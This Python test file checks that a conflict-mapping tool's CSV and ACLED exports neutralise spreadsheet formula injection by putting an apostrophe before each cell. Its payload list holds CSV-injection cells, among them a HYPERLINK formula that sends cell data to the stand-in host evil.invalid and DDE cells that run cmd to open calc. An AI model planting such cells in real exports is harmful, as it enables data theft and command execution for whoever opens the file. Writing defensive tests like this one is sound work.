"""No formula reaches a spreadsheet: CSV and ACLED exports give a formula-like text cell an apostrophe first.

Cells written as an attacker would, after OWASP's page on CSV injection. The expected cells are the payloads
with "'" before them, written out here, never asked of the code under test.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pandas as pd
import pytest

from geo import export, ingest
from geo.cli import main
from geo.data import evidence
from geo.run.view import View
from tests.conftest import ZONE

PAYLOADS = (
    '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click for the full report")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
EVENT = "e025"


def rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def with_cells(folder: Path, summary: str, actors: str) -> evidence.Evidence:
    path = folder / "events.csv"
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    frame.loc[frame["id"] == EVENT, ["summary", "actors"]] = [summary, actors]
    frame.to_csv(path, index=False, quoting=csv.QUOTE_ALL)  # a bare carriage return, too, inside quotes
    return evidence.load(folder)


def exported(loaded: evidence.Evidence, **options: object) -> tuple[dict[str, str], dict[str, str]]:
    """The hostile event's row in the CSV export and in the ACLED export."""
    table = next(r for r in rows(export.render(loaded, View(), "csv", **options)) if r["id"] == EVENT)
    acled = next(r for r in rows(export.render(loaded, View(), "acled", **options))
                 if r["event_id_cnty"] == f"SYR-evacmap-{EVENT}")
    return table, acled


@pytest.mark.parametrize("payload", PAYLOADS, ids=["hyperlink", "plus-dde", "at-sum", "minus-sum", "tab", "return"])
def test_should_put_an_apostrophe_before_a_formula_in_a_summary_or_actor(data_copy, payload):
    actor = payload.replace("|", " ")  # "|" separates actors
    loaded = with_cells(data_copy, payload, f"{actor}|Red Crescent|{actor}")
    table, acled = exported(loaded)
    assert table["summary"] == "'" + payload
    assert table["actors"] == "'" + actor + "|Red Crescent|" + actor
    assert acled["notes"] == "'" + payload
    named = actor.strip()  # ACLED's columns hold the list's items, trimmed
    assert acled["actor1"] == "'" + named
    assert acled["assoc_actor_1"] == "Red Crescent; " + named


@pytest.mark.parametrize("payload", PAYLOADS[:2])
def test_should_write_formulas_as_they_are_when_asked_for_raw_cells(data_copy, payload):
    actor = payload.replace("|", " ")
    table, acled = exported(with_cells(data_copy, payload, actor), raw=True)
    assert table["summary"] == acled["notes"] == payload
    assert table["actors"] == acled["actor1"] == actor


def test_should_leave_numbers_and_ordinary_text_as_they_are(data_copy):
    loaded = with_cells(data_copy, "-2", "+1.5|-")
    table, acled = exported(loaded)
    assert (table["summary"], acled["notes"]) == ("-2", "-2")
    # the cell "+1.5|-" as a whole is no number; its first actor is
    assert (table["actors"], acled["actor1"], acled["assoc_actor_1"]) == ("'+1.5|-", "+1.5", "'-")
    event = loaded.events.loc[loaded.events["id"] == EVENT].iloc[0]
    assert (float(acled["latitude"]), float(acled["longitude"])) == (event["lat"], event["lon"])


def test_should_change_no_byte_of_the_shipped_data_exports(shipped):
    for fmt in export.SPREADSHEETS:
        options = {"timestamp": 1_700_000_000} if fmt == "acled" else {}
        assert export.render(shipped, View(), fmt, **options) == export.render(shipped, View(), fmt, raw=True, **options)


def test_should_make_a_place_name_inert_in_the_acled_location(data_copy):
    path = data_copy / "gazetteer.csv"
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    place = pd.read_csv(data_copy / "events.csv", dtype=str).set_index("id").loc[EVENT, "place_id"]
    frame.loc[frame["id"] == place, "name"] = "=1+1"
    frame.to_csv(path, index=False)
    _, acled = exported(evidence.load(data_copy))
    assert acled["location"] == "'=1+1"


def test_should_make_report_text_carried_in_by_ingest_inert(data_copy):
    """A reviewer who keeps a candidate's evidence sentence as its summary carries the report's text into the data."""
    loaded = evidence.load(data_copy)
    text = '=HYPERLINK("http://evil.invalid","x") Some 500 civilians left Ramouseh for Rashidin on Thursday.'
    report = ingest.ingest_text(text, date(2016, 12, 16), "Reuters", loaded.gazetteer, zone=ZONE)
    assert report.events, "the report should give a candidate event"
    frame = ingest.events_frame(report.events[:1], "reuters_20161215", zone=ZONE)
    frame["summary"] = report.events[0].evidence
    path = data_copy / "events.csv"
    path.write_text(path.read_text(encoding="utf-8") + frame.to_csv(index=False, header=False), encoding="utf-8")
    again = evidence.load(data_copy)
    added = frame["id"].iloc[0]
    table = next(r for r in rows(export.render(again, View(), "csv")) if r["id"] == added)
    acled = next(r for r in rows(export.render(again, View(), "acled")) if r["event_id_cnty"].endswith(added))
    assert table["summary"] == acled["notes"] == "'" + report.events[0].evidence
    assert table["summary"].startswith("'=HYPERLINK(")


def test_should_export_raw_cells_from_the_command_line_and_refuse_raw_for_other_formats(data_copy, tmp_path, capsys):
    with_cells(data_copy, PAYLOADS[0], "")
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    assert main(["--data", str(data_copy), "export", "--format", "csv", "-o", str(safe)]) == 0
    assert main(["--data", str(data_copy), "export", "--format", "csv", "--raw", "-o", str(raw)]) == 0
    assert next(r for r in rows(safe.read_bytes()) if r["id"] == EVENT)["summary"] == "'" + PAYLOADS[0]
    assert next(r for r in rows(raw.read_bytes()) if r["id"] == EVENT)["summary"] == PAYLOADS[0]
    capsys.readouterr()
    assert main(["--data", str(data_copy), "export", "--format", "geojson", "--raw", "-o", str(tmp_path / "x")]) == 2
    assert "--raw applies to --format csv, acled, hxl only" in capsys.readouterr().err
